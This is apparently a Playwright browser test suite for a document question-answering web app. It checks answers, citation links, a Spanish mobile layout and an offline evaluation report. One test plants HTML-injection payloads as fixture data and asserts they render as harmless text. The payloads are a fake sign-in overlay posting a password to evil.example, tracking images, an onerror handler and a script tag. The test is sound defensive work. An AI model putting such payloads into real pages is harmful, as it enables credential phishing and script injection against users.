"""The pages in a real browser: ask, click, stand in the report; nothing comes from elsewhere, nothing hostile comes to life."""

import os
import re
import shutil
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Literal

import pytest
import uvicorn
from playwright.sync_api import Browser, BrowserContext, Dialog, Page, expect, sync_playwright

from assistant import Assistant, SentenceReader
from eval import ask_all, figures, read_questions, shipped_questions
from index import Home, SentenceTransformerEncoder, add
from tests.made import pdf, write
from tests.test_server import HOSTILE
from ui.report import report
from ui.server import bind, create_app

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
REQUIRED = os.environ.get("QUIPU_TEST_BROWSER") == "required"
ARGUMENTS = (
    "--headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking "
    "--disable-component-update --disable-sync"
).split()

pytestmark = pytest.mark.skipif(
    CHROMIUM is None and not REQUIRED, reason="there is no Chromium on the path (Debian: apt-get install chromium)"
)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGUMENTS)
        yield browser
        browser.close()


@pytest.fixture
def address(home: Home, encoder: SentenceTransformerEncoder) -> Iterator[str]:
    """A served assistant over `home`."""
    listener = bind("127.0.0.1", 0)
    app = create_app(Assistant(home, encoder, SentenceReader(encoder)))
    server = uvicorn.Server(uvicorn.Config(app, log_level="error", timeout_graceful_shutdown=1))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [listener]})
    thread.start()
    yield f"http://127.0.0.1:{listener.getsockname()[1]}"
    server.should_exit = True
    thread.join()


class Visitor:
    """A browser's visit: every request it sends and every error it shows is kept."""

    def __init__(self, context: BrowserContext, address: str) -> None:
        self.address = address
        self.requests: list[str] = []
        self.errors: list[str] = []
        context.on("request", lambda request: self.requests.append(request.url))
        context.on("weberror", lambda error: self.errors.append(str(error.error)))
        self.page = context.new_page()
        self.page.on("console", lambda said: self.errors.append(said.text) if said.type == "error" else None)
        self.page.goto(address)
        expect(self.page.locator("#about a").first).to_be_visible(timeout=30_000)

    def ask(self, question: str) -> None:
        before = self.page.locator("#chat .bot").count()
        self.page.locator("#question textarea").fill(question)
        self.page.locator("#question textarea").press("Enter")
        expect(self.page.locator("#chat .bot")).to_have_count(before + 1, timeout=30_000)

    @property
    def reply(self) -> str:
        return self.page.locator("#chat .bot").last.inner_text()

    def follow(self, number: int) -> Page:
        with self.page.context.expect_page() as opened:
            self.page.locator("#chat .bot").last.get_by_role("link", name=f"[{number}]", exact=True).click()
        opened.value.wait_for_load_state()
        return opened.value

    def stayed_here(self) -> bool:
        return all(url.startswith((self.address, "data:", "blob:")) for url in self.requests)


@pytest.fixture(params=["light", "dark"])
def visitor(browser: Browser, address: str, request: pytest.FixtureRequest) -> Iterator[Visitor]:
    context = browser.new_context(locale="en-US", color_scheme=request.param)
    yield Visitor(context, address)
    context.close()


def test_ask_click_and_stand_in_the_report(visitor: Visitor) -> None:
    visitor.ask("Who controls the VRAEM?")
    assert "The VRAEM area is controlled by the Shining Path guerrilla group" in visitor.reply
    document = visitor.follow(1)
    mark = document.locator("mark")
    expect(mark).to_be_in_viewport()
    expect(mark).to_be_focused()
    assert mark.inner_text().startswith("The VRAEM area is controlled by")
    assert visitor.stayed_here()
    assert visitor.errors == []


def test_a_follow_up_knows_what_came_before(visitor: Visitor) -> None:
    visitor.ask("Who controls the VRAEM?")
    visitor.ask("and in the north?")
    assert "Searched for: and in the north? controls VRAEM" in visitor.reply
    assert "prevalent on the north coast of Peru" in visitor.reply


def test_an_example_is_asked_with_a_click(visitor: Visitor) -> None:
    visitor.page.get_by_role("button", name="What do the documents say about Organized Crime Groups?").click()
    expect(visitor.page.locator("#chat .bot")).to_have_count(1, timeout=30_000)
    assert "Shining Path guerrilla group" in visitor.reply
    expect(visitor.page.locator("#examples")).to_be_hidden()


def test_a_refusal_and_an_error_are_said_in_words(visitor: Visitor) -> None:
    visitor.ask("Are prisons in Chile overcrowded?")
    assert visitor.reply.startswith("These documents do not answer that: “Chile” does not appear in them.")
    assert "Related, but not an answer:" in visitor.reply
    visitor.ask("a" * 3000)
    assert visitor.reply.startswith("The question has 3,000 characters; Quipu takes up to 2,000.")


def test_in_spanish_at_360_pixels_by_keyboard_alone(browser: Browser, address: str) -> None:
    context = browser.new_context(locale="es-PE", viewport={"width": 360, "height": 740})
    visitor = Visitor(context, address)
    page = visitor.page
    assert "Las respuestas salen de: " in page.locator("#about").inner_text()
    expect(page.get_by_placeholder("Haga una pregunta a los documentos")).to_be_focused()
    page.keyboard.type("¿Qué grupo controla el VRAEM?")
    page.keyboard.press("Enter")
    expect(page.locator("#chat .bot")).to_have_count(1, timeout=30_000)
    assert "Fuentes" in visitor.reply
    assert page.evaluate("document.documentElement.scrollWidth") <= 360
    link = page.locator("#chat .bot").get_by_role("link", name="[1]", exact=True)
    link.focus()
    with context.expect_page() as opened:
        page.keyboard.press("Enter")
    opened.value.wait_for_load_state()
    expect(opened.value.locator("mark")).to_be_in_viewport()
    assert opened.value.evaluate("document.documentElement.scrollWidth") <= 360
    context.close()


def test_a_far_page_of_a_pdf_is_scrolled_to(
    browser: Browser, home: Home, encoder: SentenceTransformerEncoder, tmp_path: Path, address: str
) -> None:
    pages = [[f"Paragraph {line} of page {page} is about roads." for line in range(30)] for page in range(1, 12)]
    pages[9][20] = "The inspectors found forty trucks of mahogany."
    add(home, [write(tmp_path / "roads.pdf", pdf(pages, header="Roads and forests", footer="{n}"))], encoder)
    context = browser.new_context(locale="en-US")
    visitor = Visitor(context, address)
    visitor.ask("How many trucks of mahogany?")
    assert "p. 10" in visitor.reply
    document = visitor.follow(1)
    expect(document.locator("mark")).to_be_in_viewport()
    assert document.locator("mark").inner_text() == "The inspectors found forty trucks of mahogany."
    assert document.evaluate("scrollY") > 1000
    context.close()


def test_a_hostile_document_stays_text(
    browser: Browser, home: Home, encoder: SentenceTransformerEncoder, tmp_path: Path, address: str
) -> None:
    overlay = '<div style="position:fixed;top:0">Sign in <form action="http://evil.example"><input name=password></form></div>'
    image = "![x](http://evil.example/track.png) <img src=http://evil.example/y.png onerror=alert(1)>"
    text = f"Hostile report\n\nThe secret of the mahogany is {overlay} {image} <script>alert(1)</script>, as they say.\n"
    add(home, [write(tmp_path / "hostile.txt", text), write(tmp_path / "hostile.md", HOSTILE)], encoder)
    context = browser.new_context(locale="en-US")
    visitor = Visitor(context, address)
    alerts: list[str] = []

    def alerted(dialog: Dialog) -> None:
        alerts.append(dialog.message)
        dialog.dismiss()

    visitor.page.on("dialog", alerted)
    visitor.ask("What is the secret of the mahogany?")
    assert '<div style="position:fixed;top:0">Sign in <form' in visitor.reply
    chat = visitor.page.locator("#chat")
    assert [chat.locator(f".bot {tag}").count() for tag in ("img", "form", "input", "script", "div[style*=fixed]")] == [0] * 5
    document = visitor.follow(1)
    document.on("dialog", alerted)
    assert "<script>alert(1)</script>, as they say." in document.locator("mark").inner_text()
    assert alerts == []
    assert visitor.stayed_here()
    assert not re.search("evil", " ".join(visitor.requests))
    context.close()


@pytest.mark.parametrize(("width", "scheme"), [(1200, "light"), (360, "dark")])
def test_the_report_of_an_evaluation_needs_nothing_but_itself(
    browser: Browser, home: Home, encoder: SentenceTransformerEncoder, tmp_path: Path, width: int, scheme: Literal["light", "dark"]
) -> None:
    assistant = Assistant(home, encoder, SentenceReader(encoder))
    rows = [row for row, _ in ask_all(assistant, read_questions(shipped_questions()))]
    wrong = [row for row in rows if not row.right]
    taken = {"median": 1.0, "p95": 2.0, "most": 3.0}
    meta = {"name": "report", "date": "2026-01-02", "questions": 66, "documents": 1, "model": "m", "milliseconds": taken}
    page = report(rows, figures(rows), None, meta, assistant.index().document, "http://127.0.0.1:7860")
    file = write(tmp_path / "report.html", page)
    context = browser.new_context(viewport={"width": width, "height": 800}, color_scheme=scheme, offline=True)
    requests: list[str] = []
    errors: list[str] = []
    context.on("request", lambda request: requests.append(request.url))
    shown = context.new_page()
    shown.on("console", lambda said: errors.append(said.text))
    shown.goto(file.as_uri())
    assert requests == [file.as_uri()]
    assert errors == []
    expect(shown.get_by_role("heading", name=f"{len(wrong)} questions went wrong")).to_be_visible()
    assert shown.locator("article").count() == len(wrong) > 5
    assert shown.get_by_role("img").count() == 3
    assert shown.locator(".headlines .figure").first.inner_text() == f"{100 * figures(rows)['all']['correct'].mean:.1f}%"
    place = shown.locator("details", has_text="In its place").first
    place.locator("summary").click()
    expect(place.locator("mark")).to_be_visible()
    assert shown.evaluate("document.documentElement.scrollWidth") == width
    context.close()
